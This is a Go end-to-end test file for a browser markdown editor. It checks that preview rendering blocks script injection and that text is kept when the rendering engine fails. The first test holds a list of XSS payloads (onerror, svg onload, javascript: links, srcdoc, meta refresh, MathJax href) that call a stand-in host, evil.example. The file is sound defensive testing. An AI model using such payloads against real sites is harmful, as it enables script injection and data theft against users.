package e2e

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestNothingInAPostRuns(t *testing.T) {
	p := open(t, visit{})
	p.allow("Blocked script execution") // the frame reports the script that it did not run
	p.allow("Content Security Policy")
	p.allow("nowhere.png") // an image that fails to load, which would run its onerror
	p.waitReady()
	ran := func(how string) string {
		return `(parent.ran ??= []).push('` + how + `'),(top.ran ??= []).push('` + how + `'),fetch('http://evil.example/` + how + `'),alert('` + how + `')`
	}
	p.replaceAll(post(strings.Join([]string{
		"<script>" + ran("script") + "</script>",
		`<img src="nowhere.png" onerror="` + ran("onerror") + `">`,
		`<svg onload="` + ran("svg") + `"><script>` + ran("svg-script") + `</script></svg>`,
		`<a id="link" href="javascript:` + ran("href") + `">link</a> [markdown](javascript:` + ran("markdown") + `)`,
		`<div id="click" onclick="` + ran("onclick") + `">click</div>`,
		`<iframe srcdoc="<script>` + ran("srcdoc") + `</script>"></iframe>`,
		`<form action="javascript:` + ran("form") + `"><button id="send">send</button></form>`,
		`<details open ontoggle="` + ran("ontoggle") + `">details</details>`,
		`<style onload="` + ran("style") + `">p { color: inherit }</style>`,
		`<meta http-equiv="refresh" content="0;url=javascript:` + ran("refresh") + `">`,
		`<math href="javascript:` + ran("math") + `">m</math>`,
		`$$\href{javascript:` + ran("mathjax") + `}{x}$$`,
		"the end",
	}, "\n\n")))
	p.waitPreview("the end")
	for _, id := range []string{"link", "click", "send"} {
		eval[any](p, frame+`.getElementById(%s)?.click()`, id)
	}
	eval[any](p, `[...`+content+`.querySelectorAll("a")].forEach(a => a.click())`)
	p.write("\n\nafter all")
	p.waitPreview("after all")
	require.Empty(t, eval[[]string](p, `window.ran ?? []`))
	require.True(t, strings.HasPrefix(eval[string](p, `location.href`), p.url), "the page is still ours")
}

// alter changes one file of the site in transit.
func alter(name string, change func([]byte) []byte) func(http.Handler) http.Handler {
	return func(site http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path != mount+name {
				site.ServeHTTP(w, r)
				return
			}
			r.Header.Del("Accept-Encoding")
			answer := httptest.NewRecorder()
			site.ServeHTTP(answer, r)
			w.Header().Set("Content-Type", answer.Header().Get("Content-Type"))
			if data := change(answer.Body.Bytes()); data != nil {
				w.Write(data)
				return
			}
			http.NotFound(w, r)
		})
	}
}

func TestAPanicInTheEngineIsShownAndSurvived(t *testing.T) {
	// A call without arguments makes the engine panic internally.
	provoke := []byte(`
;{ const door = globalThis; let real
Object.defineProperty(door, "daylog", { get: () => real && { ...real, update: (...args) => real.update(...(String(args[0]).includes("PANIC") ? [] : args)) }, set: v => { real = v } }) }`)
	// With little memory the worker handles every keystroke.
	little := `Object.defineProperty(Navigator.prototype, "deviceMemory", { get: () => 1 })`
	p := open(t, visit{before: little, serve: alter("worker.js", func(js []byte) []byte { return bytes.Join([][]byte{provoke, js}, []byte("\n")) })})
	p.waitReady()
	p.replaceAll(post("before"))
	p.waitPreview("before")
	p.write(" PANIC")
	p.waitBanner("")
	require.Contains(t, p.lines(), "before PANIC", "the text is safe")
	p.waitSaved()
	for range " PANIC" {
		p.press("Backspace")
	}
	p.typeText(" and after")
	p.waitPreview("before and after")
}

// interrupted returns a script that makes a call of the engine throw for arguments that contain a
// word, like a stack overflow.
func interrupted(call, word string) string {
	return `;{ let real
const isWord = value => JSON.stringify(value ?? "").includes("` + word + `")
Object.defineProperty(globalThis, "daylog", { configurable: true, set: v => { real = v }, get: () => real && { ...real, ` + call + `: (...args) => {
  if (isWord(args[0])) throw new RangeError("Maximum call stack size exceeded")
  return real.` + call + `(...args)
} } }) }
`
}

func TestAnInterruptedEngineIsRestartedWhenTheTextChanges(t *testing.T) {
	little := `Object.defineProperty(Navigator.prototype, "deviceMemory", { get: () => 1 })`
	p := open(t, visit{before: little, serve: alter("worker.js", func(js []byte) []byte { return append([]byte(interrupted("update", "END")), js...) })})
	p.waitReady()
	p.replaceAll(post("before"))
	p.waitPreview("before")
	p.write(" END")
	p.waitBanner("Maximum call stack")
	require.Equal(t, "failed", eval[string](p, `document.documentElement.dataset.state`))
	require.Contains(t, p.lines(), "before END", "the text is safe")
	p.waitSaved()
	for range " END" {
		p.press("Backspace")
	}
	p.typeText(" and after")
	p.waitPreview("before and after")
	p.wait(`document.documentElement.dataset.state == "ready" && document.querySelector(".Banner").hidden`)
}

func TestAnInterruptedEngineInThePageIsRestarted(t *testing.T) {
	p := open(t, visit{before: interrupted("change", "§")})
	p.waitReady()
	p.replaceAll(post("before"))
	p.waitPreview("before")
	p.wait(`document.documentElement.hasAttribute("data-near")`)
	p.typeText("§")
	p.waitPreview("before§") // rendered by the worker
	require.Contains(t, p.lines(), "before§")
	p.typeText(" and")
	p.waitPreview("before§ and")
	p.wait(`document.documentElement.hasAttribute("data-near")`)
	p.typeText(" after")
	p.waitPreview("before§ and after")
}

func TestWithoutItsEngineTheTextIsStillSafe(t *testing.T) {
	for name, broken := range map[string]func([]byte) []byte{
		"missing": func([]byte) []byte { return nil },
		"damaged": func(wasm []byte) []byte { return wasm[:len(wasm)/2] },
	} {
		t.Run(name, func(t *testing.T) {
			p := open(t, visit{serve: alter("engine.wasm", broken)})
			p.allow("engine.wasm")
			p.wait(`document.documentElement.dataset.state == "failed"`)
			p.waitBanner("")
			p.replaceAll(post("still here"))
			p.waitSaved()
			_, got := p.download(func() { p.press("Mod+Shift+S") })
			require.Equal(t, post("still here"), string(got))
			p.reload()
			p.wait(`document.documentElement.dataset.state == "failed"`)
			require.Equal(t, post("still here"), p.lines())

			p.press("F2")
			p.wait(`document.querySelector(".Rename-result").textContent == %s`, p.say("rename.engine"))
			require.True(t, eval[bool](p, `document.querySelector(".Rename-ok").disabled`))
		})
	}
}

func TestTypingDoesNotWaitForTheEngine(t *testing.T) {
	slow, arrived := heldBack("engine.wasm")
	p := open(t, visit{serve: slow})
	p.wait(`document.querySelector(".cm-content")`)
	p.write("typed early")
	require.Contains(t, p.lines(), "typed early")
	require.Equal(t, "loading", eval[string](p, `document.documentElement.dataset.state`))
	close(arrived)
	p.waitReady()
	p.waitPreview("typed early")
	require.Contains(t, p.lines(), "typed early", "what was typed early stayed")
}
